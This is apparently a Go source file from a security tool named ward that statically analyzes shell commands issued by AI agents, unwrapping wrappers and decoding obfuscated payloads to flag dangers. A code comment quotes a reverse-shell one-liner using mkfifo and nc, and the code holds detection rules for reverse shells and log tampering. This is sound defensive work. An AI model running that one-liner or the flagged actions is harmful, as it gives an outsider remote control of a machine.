// Package shell analyzes shell commands the way the shell will run them.
//
// It parses with mvdan.cc/sh/v3 and never executes anything. It resolves
// what can be known without running code (quoting, ANSI-C strings, brace
// expansion, ${IFS}, variables, arrays, aliases and functions defined in
// the same command line, command substitutions whose output is plain
// text), unwraps wrappers (sudo, env, xargs, find -exec, bash -c, ssh,
// docker exec, ...), decodes obfuscated payloads that are piped into a
// shell (base64, hex, rot13, rev, gzip, printf escapes), looks into
// interpreter one-liners (python -c, node -e, perl -e, awk, PowerShell),
// and records every command the shell would run, every path it would
// touch, and findings about what it would do.
package shell

import (
	"context"
	"strings"

	"mvdan.cc/sh/v3/syntax"

	"github.com/agentward/ward/event"
	"github.com/agentward/ward/internal/analyze"
)

// Limits on the work one command can cause. Reaching one is itself a
// finding (shell.too_complex): what ward could not look at, it reports.
const (
	MaxScript    = 256 << 10 // bytes of script parsed, including nested and decoded ones
	MaxDepth     = 8         // nesting of bash -c, eval, decoded payloads, functions
	MaxCommands  = 512       // simple commands recorded
	MaxSteps     = 20000     // statements walked, statically evaluated included
	MaxText      = 256 << 10 // bytes of text a static evaluation may produce
	maxLoopItems = 8         // items of a for loop walked one by one
)

// Analyzer is the shell analyzer.
type Analyzer struct{}

var (
	_ analyze.Analyzer  = Analyzer{}
	_ analyze.Cataloger = Analyzer{}
)

// Name implements analyze.Analyzer.
func (Analyzer) Name() string { return "shell" }

// Analyze implements analyze.Analyzer.
func (Analyzer) Analyze(ctx context.Context, s *analyze.Subject) error {
	if s.Event.Action.Kind != event.KindShell {
		return nil
	}
	w := newWalker(ctx, s)
	w.script(s.Event.Action.Command, w.rootScope())
	w.finish()
	return ctx.Err()
}

// finish draws conclusions from the whole command line: a network
// connection and a shell started in it make a reverse shell, as in
// "mkfifo f; sh -i < f | nc host 4242 > f".
func (w *walker) finish() {
	for _, r := range w.s.Refs {
		if r.Op != event.OpWrite && r.Op != event.OpDelete {
			continue
		}
		if p := w.s.Env.Resolve(r.Path); p == "/var/log" || strings.HasPrefix(p, "/var/log/") {
			w.find(FindingLogTamper, "system logs are deleted or overwritten", p)
		}
	}
	if w.netConn && w.shellStarted || w.netShell && w.shellStarted {
		w.find(FindingReverseShell, "a shell and a network connection are wired together", w.s.Event.Action.Command)
	}
}

// walker walks one command line and everything nested in it.
type walker struct {
	ctx     context.Context
	s       *analyze.Subject
	parsed  int
	steps   int
	funcs   map[string]*syntax.Stmt
	aliases map[string]string
	calling map[string]int // function calls under way, to bound recursion
	found   map[string]bool
	// executables are files the command line makes executable (chmod +x),
	// to catch them being handed to another program to run.
	executables map[string]bool
	// written holds what the command line wrote into files, by resolved
	// path, so that running them later is analyzed.
	written map[string]string
	// netConn and shellStarted together make a reverse shell: a network
	// connection and a shell not fed a known script, in one command line.
	netConn, shellStarted, netShell bool
}

func newWalker(ctx context.Context, s *analyze.Subject) *walker {
	return &walker{ctx: ctx, s: s, funcs: map[string]*syntax.Stmt{},
		aliases: map[string]string{}, calling: map[string]int{}, found: map[string]bool{},
		executables: map[string]bool{}, written: map[string]string{}}
}

// scope is what a statement is walked in: the variables it sees, how deep
// it is nested, and the wrappers it was found inside.
type scope struct {
	env   *env
	depth int
	via   []string
}

func (w *walker) rootScope() *scope {
	return &scope{env: newEnv(w, w.s.Env.Home, w.s.Event.Cwd)}
}

// nested returns a scope one level deeper, found inside label.
func (sc *scope) nested(label string) *scope {
	via := make([]string, len(sc.via), len(sc.via)+1)
	copy(via, sc.via)
	if label != "" {
		via = append(via, label)
	}
	return &scope{env: sc.env, depth: sc.depth + 1, via: via}
}

// parse parses src as bash, within the parse budget.
func (w *walker) parse(src string, sc *scope) (*syntax.File, bool) {
	if sc.depth > MaxDepth || w.parsed+len(src) > MaxScript {
		w.tooComplex("the command nests too deeply or is too long to analyze")
		return nil, false
	}
	w.parsed += len(src)
	f, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(src), "")
	if err != nil {
		w.find(FindingUnparsed, "the command is not valid shell syntax", err.Error())
		return nil, false
	}
	return f, true
}

// script parses src and walks it.
func (w *walker) script(src string, sc *scope) {
	if f, ok := w.parse(src, sc); ok {
		w.stmts(f.Stmts, sc)
	}
}

// find records a finding once per id and evidence.
func (w *walker) find(id, msg, evidence string) {
	if len(evidence) > 300 {
		evidence = evidence[:297] + "..."
	}
	if id == FindingInteractive || id == FindingPipeExec {
		w.shellStarted = true
	}
	key := id + "\x00" + evidence
	if w.found[key] {
		return
	}
	w.found[key] = true
	w.s.AddFinding(event.Finding{ID: id, Severity: severityOf(id), Message: msg, Evidence: evidence})
}

func (w *walker) tooComplex(msg string) {
	w.find(FindingTooComplex, msg, "")
}

// step counts one unit of work and reports whether the budget allows it.
func (w *walker) step() bool {
	w.steps++
	if w.steps > MaxSteps || w.ctx.Err() != nil {
		if w.steps == MaxSteps+1 {
			w.tooComplex("the command has more statements than ward walks")
		}
		return false
	}
	return true
}

// record adds a command to the facts.
func (w *walker) record(c event.Command) {
	cmds := &w.s.Facts.Shell.Commands
	if len(*cmds) >= MaxCommands {
		w.tooComplex("the command runs more simple commands than ward records")
		return
	}
	*cmds = append(*cmds, c)
}

// addPath records a path, skipping streams and values only known at run
// time.
func (w *walker) addPath(p string, op event.PathOp, recursive bool, source string) {
	if p == "" || strings.HasPrefix(p, dynamicMark) || pseudoFile(p) {
		return
	}
	w.s.AddRef(analyze.PathRef{Path: p, Op: op, Recursive: recursive, Source: source})
}

// dynamicMark prefixes arguments whose value is only known at run time, so
// that they keep their place among a command's operands but are never
// taken for a path. A NUL cannot occur in a real argument.
const dynamicMark = "\x00"

func isDynamic(arg string) bool { return strings.HasPrefix(arg, dynamicMark) }

// pseudoFile reports whether p names a stream rather than a file.
func pseudoFile(p string) bool {
	switch p {
	case "/dev/null", "/dev/stdout", "/dev/stderr", "/dev/stdin", "/dev/tty", "/dev/zero",
		"/dev/random", "/dev/urandom", "-":
		return true
	}
	return strings.HasPrefix(p, "/dev/fd/")
}

func printNode(n syntax.Node) string {
	var b strings.Builder
	if err := syntax.NewPrinter(syntax.SingleLine(true)).Print(&b, n); err != nil {
		return ""
	}
	return b.String()
}
